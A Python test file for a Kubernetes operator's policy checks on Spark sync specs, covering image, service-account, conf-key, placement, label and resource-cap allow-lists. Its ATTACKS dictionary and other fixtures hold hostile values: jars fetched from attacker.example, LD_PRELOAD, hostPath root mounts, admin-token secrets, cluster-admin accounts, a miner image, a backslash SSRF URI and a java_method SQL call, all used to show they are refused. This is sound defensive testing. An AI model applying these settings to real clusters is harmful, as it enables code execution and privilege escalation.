"""The operator's policy on images, service accounts, Spark conf keys and catalog endpoints (pure)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from icebergsync_operator.policy import catalog_uri_field, policy_problems
from icebergsync_operator.settings import DEFAULT_ALLOWED_SPARK_CONF, OperatorSettings, parse_settings

from icebergsync.spec import IcebergSync, parse_spec


def sync_with(spark: dict[str, Any], catalog_uri: str = "http://catalog.data:8181") -> IcebergSync:
    return parse_spec({"apiVersion": "icebergsync.io/v1alpha1", "kind": "IcebergSync",
                       "metadata": {"name": "trips", "namespace": "team-a"},
                       "spec": {"source": {"generator": {}}, "spark": spark,
                                "table": {"name": "db.trips", "catalog": {"type": "rest", "uri": catalog_uri}}}})


STRICT = OperatorSettings(allowed_images=("registry.example/data/",), allowed_service_accounts=("icebergsync-spark",))
# Every key that executes code, sends a token elsewhere or mounts a Secret, plus the pod-level
# keys the former deny-list refused.
ATTACKS = {
    "spark.kubernetes.driver.master": "https://attacker.example",
    "spark.driver.extraJavaOptions": "-javaagent:/tmp/x.jar",
    "spark.jars": "https://attacker.example/x.jar",
    "spark.plugins": "com.attacker.Plugin",
    "spark.pyspark.driver.python": "/bin/sh",
    "spark.kubernetes.driverEnv.LD_PRELOAD": "/tmp/x.so",
    "spark.kubernetes.kerberos.tokenSecret.name": "admin-token",
    "spark.kubernetes.driver.volumes.hostPath.root.mount.path": "/host",
    "spark.kubernetes.driver.podTemplateFile": "/tmp/t.yaml",
    "spark.kubernetes.authenticate.driver.serviceAccountName": "cluster-admin",
    "spark.kubernetes.container.image": "evil:1",
    "spark.kubernetes.namespace": "kube-system",
    "spark.kubernetes.driver.secrets.admin-token": "/var/run/x",
    "spark.kubernetes.executor.request.cores": "64",
    "spark.executor.memoryOverhead": "1t",
    "spark.dynamicAllocation.maxExecutors": "1000",
    "spark.sql.extensions": "com.attacker.Extensions",
    "spark.sql.catalog.evil": "com.attacker.Catalog",
}


def test_allowed_spec_has_no_problems() -> None:
    spec = sync_with({"image": "registry.example/data/icebergsync:1", "serviceAccount": "icebergsync-spark",
                      "conf": {"spark.sql.shuffle.partitions": "8", "spark.memory.fraction": "0.7"}})
    assert policy_problems(spec, STRICT) == ()
    assert policy_problems(sync_with({}), STRICT) == ()  # the operator's own defaults are always allowed


def test_by_default_only_the_operators_own_image_and_service_account_are_allowed() -> None:
    settings = OperatorSettings(default_service_account="icebergsync-spark")
    own = sync_with({"image": settings.default_image, "serviceAccount": "icebergsync-spark"})
    assert policy_problems(own, settings) == ()
    foreign = sync_with({"image": "docker.io/attacker/miner:latest", "serviceAccount": "cluster-admin"})
    assert policy_problems(foreign, settings) == (
        "spec.spark.image: 'docker.io/attacker/miner:latest' is not allowed (allowed: the operator's default "
        f"{settings.default_image!r}; policy.allowedImages)",
        "spec.spark.serviceAccount: 'cluster-admin' is not allowed (allowed: the operator's default "
        "'icebergsync-spark'; policy.allowedServiceAccounts)",
    )
    assert policy_problems(sync_with({"serviceAccount": "default"}), OperatorSettings()) == (
        "spec.spark.serviceAccount: 'default' is not allowed (allowed: none; policy.allowedServiceAccounts)",)


def test_an_admin_opens_images_and_service_accounts_by_list_or_entirely() -> None:
    foreign = sync_with({"image": "docker.io/attacker/miner:latest", "serviceAccount": "cluster-admin"})
    assert policy_problems(foreign, STRICT) == (
        "spec.spark.image: 'docker.io/attacker/miner:latest' is not allowed (allowed: the operator's default "
        f"{STRICT.default_image!r} and images starting with 'registry.example/data/'; policy.allowedImages)",
        "spec.spark.serviceAccount: 'cluster-admin' is not allowed (allowed: the accounts 'icebergsync-spark'; "
        "policy.allowedServiceAccounts)",
    )
    assert policy_problems(foreign, OperatorSettings(allowed_images=("*",), allowed_service_accounts=("*",))) == ()


def test_every_attack_conf_key_is_refused_by_default_and_tuning_keys_pass() -> None:
    tuning = {"spark.sql.shuffle.partitions": "4", "spark.sql.adaptive.enabled": "true",
              "spark.memory.fraction": "0.6", "spark.network.timeout": "300s"}
    problems = policy_problems(sync_with({"conf": {**ATTACKS, **tuning}}), OperatorSettings())
    assert problems == tuple(f"spec.spark.conf: {key!r} is not among the allowed keys (policy.allowedSparkConf)"
                             for key in sorted(ATTACKS))


def test_an_admin_sets_the_conf_allow_list() -> None:
    settings = OperatorSettings(allowed_spark_conf=("spark.sql.*",))
    spec = sync_with({"conf": {"spark.sql.shuffle.partitions": "4", "spark.driver.extraJavaOptions": "-Dx=1"}})
    assert policy_problems(spec, settings) == (
        "spec.spark.conf: 'spark.driver.extraJavaOptions' is not among the allowed keys (policy.allowedSparkConf)",)
    assert policy_problems(sync_with({"conf": ATTACKS}), OperatorSettings(allowed_spark_conf=("*",))) == ()


def test_no_allow_list_lets_a_spec_weaken_sparks_authentication() -> None:
    """A sync's pods talk to each other authenticated and encrypted whatever the admin opens
    (attack 17): a spec turning that off, or choosing the secret, is refused naming the key."""
    weakening = {"spark.authenticate": "false", "spark.authenticate.secret": "known",
                 "spark.network.crypto.enabled": "false", "spark.ui.killEnabled": "true"}
    problems = policy_problems(sync_with({"conf": weakening}), OperatorSettings(allowed_spark_conf=("*",)))
    assert problems == tuple(f"spec.spark.conf: {key!r} is set by the operator for every sync (Spark's RPC is "
                             "authenticated and encrypted, the UI cannot kill) and cannot be changed"
                             for key in sorted(weakening))


def test_executors_cores_and_memory_of_a_sync_are_capped() -> None:
    settings = OperatorSettings(max_executors=4, max_cores=8, max_memory=16 * 1024**3)
    within = {"driver": {"cores": 2, "memory": "2g"}, "executor": {"instances": 3, "cores": 2, "memory": "4g"}}
    assert policy_problems(sync_with(within), settings) == ()
    above = {"driver": {"cores": 1, "memory": "2048"}, "executor": {"instances": 5, "cores": 2, "memory": "3g"}}
    assert policy_problems(sync_with(above), settings) == (
        "spec.spark.executor.instances: 5 is above the cap of 4 executors per sync (policy.maxExecutors)",
        "spec.spark: 11 cores in all (driver 1 + 5 x 2) is above the cap of 8 per sync (policy.maxCores)",
        "spec.spark: 17.0Gi of memory in all (driver 2048 + 5 x 3g) is above the cap of 16.0Gi per sync "
        "(policy.maxMemory)",
    )
    uncapped = OperatorSettings(max_executors=0, max_cores=0, max_memory=0)
    assert policy_problems(sync_with({"executor": {"instances": 500, "cores": 64, "memory": "1t"}}), uncapped) == ()


def test_policy_settings_from_flags_and_environment() -> None:
    settings, _ = parse_settings(["--allowed-images", "a/,b/", "--max-memory", "8Gi"], {
        "ICEBERGSYNC_ALLOWED_SERVICE_ACCOUNTS": "spark", "ICEBERGSYNC_ALLOWED_SPARK_CONF": "spark.sql.*",
        "ICEBERGSYNC_MAX_EXECUTORS": "2", "ICEBERGSYNC_MAX_CORES": "0"})
    assert settings.allowed_images == ("a/", "b/")
    assert settings.allowed_service_accounts == ("spark",)
    assert settings.allowed_spark_conf == ("spark.sql.*",)
    assert (settings.max_executors, settings.max_cores, settings.max_memory) == (2, 0, 8 * 1024**3)
    default = parse_settings([], {})[0]
    assert (default.allowed_images, default.allowed_service_accounts) == ((), ())
    assert default.allowed_spark_conf == DEFAULT_ALLOWED_SPARK_CONF
    assert (default.max_executors, default.max_cores, default.max_memory) == (8, 16, 64 * 1024**3)


def test_an_ambiguous_catalog_uri_is_refused_even_when_every_endpoint_is_allowed() -> None:
    uri = "http://127.0.0.1:8181\\@catalog.internal/"
    for settings in (OperatorSettings(), OperatorSettings(allowed_catalog_uris=("http://catalog.internal/",))):
        assert policy_problems(sync_with({}, uri), settings) == (f"spec.table.catalog.uri: {uri!r} contains a backslash",)


def test_the_docs_name_every_default_tuning_key() -> None:
    """docs/operator.md#policy lists the default allow-list the admin opens from."""
    policy = (Path(__file__).resolve().parents[2] / "docs" / "operator.md").read_text().split("## Policy")[1]
    assert [key for key in DEFAULT_ALLOWED_SPARK_CONF if f"`{key}`" not in policy] == []


def test_a_sql_transform_is_refused_unless_the_admin_allows_transforms() -> None:
    document = sync_with({}).model_dump(by_alias=True, exclude_none=True)
    document["spec"]["transform"] = "SELECT java_method('java.lang.System', 'getenv', 'HOME') AS id FROM source"
    sync = parse_spec(document)
    assert policy_problems(sync, OperatorSettings()) == (
        "spec.transform: SQL transforms are not allowed (policy.allowTransform): Spark SQL can call Java methods "
        "and read the job's local files, which is running code as the job",)
    assert policy_problems(sync, OperatorSettings(allow_transform=True)) == ()
    assert parse_settings(["--allow-transform"], {})[0].allow_transform
    assert parse_settings([], {"ICEBERGSYNC_ALLOW_TRANSFORM": "true"})[0].allow_transform
    assert not parse_settings([], {})[0].allow_transform


def test_a_refused_uri_is_named_where_the_user_wrote_it() -> None:
    """An inline catalog's own field, or the catalog resource a catalogRef names (its spec.uri)."""
    assert catalog_uri_field(sync_with({})) == "spec.table.catalog.uri"
    named = parse_spec({"apiVersion": "icebergsync.io/v1alpha1", "kind": "IcebergSync",
                        "metadata": {"name": "trips", "namespace": "data"},
                        "spec": {"source": {"generator": {"totalRows": 1}},
                                 "table": {"name": "db.trips", "catalogRef": {"kind": "ClusterIcebergCatalog",
                                                                               "name": "lake"}}}})
    assert catalog_uri_field(named) == "spec.table.catalogRef (ClusterIcebergCatalog 'lake', spec.uri)"


def test_placement_that_grants_something_is_closed_by_default() -> None:
    """A PriorityClass (preemption), a toleration (reserved nodes), labels and annotations (selected by
    network policies, sidecar injectors, cloud identities) each need the admin's policy; a node selector and an
    affinity only narrow where a pod may run."""
    pod = {"priorityClassName": "system-cluster-critical", "tolerations": [{"key": "dedicated", "value": "gpu"}],
           "labels": {"azure.workload.identity/use": "true"},
           "annotations": {"iam.amazonaws.com/role": "admin"},
           "nodeSelector": {"pool": "data"},
           "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {}}}}
    assert policy_problems(sync_with({"executor": pod}), OperatorSettings()) == (
        "spec.spark.executor.priorityClassName: 'system-cluster-critical' is not allowed (allowed: none; "
        "policy.allowedPriorityClasses)",
        "spec.spark.executor.tolerations: taint key 'dedicated' is not among the allowed (policy.allowedTolerations)",
        "spec.spark.executor.labels: 'azure.workload.identity/use' is not among the allowed keys "
        "(policy.allowedPodLabels)",
        "spec.spark.executor.annotations: 'iam.amazonaws.com/role' is not among the allowed keys "
        "(policy.allowedPodAnnotations)")
    assert policy_problems(sync_with({"driver": {"nodeSelector": {"pool": "data"},
                                                 "affinity": pod["affinity"]}}), OperatorSettings()) == ()


def test_the_admin_opens_placement_by_name_and_pattern() -> None:
    settings = OperatorSettings(allowed_priority_classes=("batch-low",), allowed_tolerations=("dedicated",),
                                allowed_pod_labels=("team", "example.com/*"),
                                allowed_pod_annotations=("example.com/*",))
    pod = {"priorityClassName": "batch-low", "tolerations": [{"key": "dedicated", "value": "spark"}],
           "labels": {"team": "data", "example.com/owner": "ana"}, "annotations": {"example.com/cost-center": "42"}}
    assert policy_problems(sync_with({"driver": pod, "executor": pod}), settings) == ()
    everything = sync_with({"driver": {"tolerations": [{"operator": "Exists"}]}})
    assert policy_problems(everything, settings) == (
        "spec.spark.driver.tolerations: a toleration without a key tolerates every taint; only "
        'policy.allowedTolerations ["*"] allows it',)
    assert policy_problems(everything, OperatorSettings(allowed_tolerations=("*",))) == ()


def test_the_operators_and_sparks_own_labels_are_never_a_tenants() -> None:
    """A tenant's label that the operator, Spark or the Spark Operator selects pods by would let its pod pass for
    another's: refused even when the admin allows every label."""
    labels = {"icebergsync.io/sync": "other", "app.kubernetes.io/managed-by": "icebergsync",
              "spark-role": "driver", "sparkoperator.k8s.io/app-name": "other-v1"}
    problems = policy_problems(sync_with({"driver": {"labels": labels}}), OperatorSettings(allowed_pod_labels=("*",)))
    assert problems == tuple(f"spec.spark.driver.labels: {key!r} is the operator's or Spark's own label and cannot "
                             "be set" for key in sorted(labels))


def test_memory_overhead_counts_toward_the_memory_cap() -> None:
    settings = OperatorSettings(max_memory=8 * 1024**3)
    within = {"driver": {"memory": "2g"}, "executor": {"memory": "2g", "instances": 3}}
    assert policy_problems(sync_with(within), settings) == ()
    over = {"driver": {"memory": "2g"}, "executor": {"memory": "2g", "memoryOverhead": "1g", "instances": 3}}
    assert policy_problems(sync_with(over), settings) == (
        "spec.spark: 11.0Gi of memory in all (driver 2g + 3 x 2g+1g overhead) is above the cap of 8.0Gi per sync "
        "(policy.maxMemory)",)
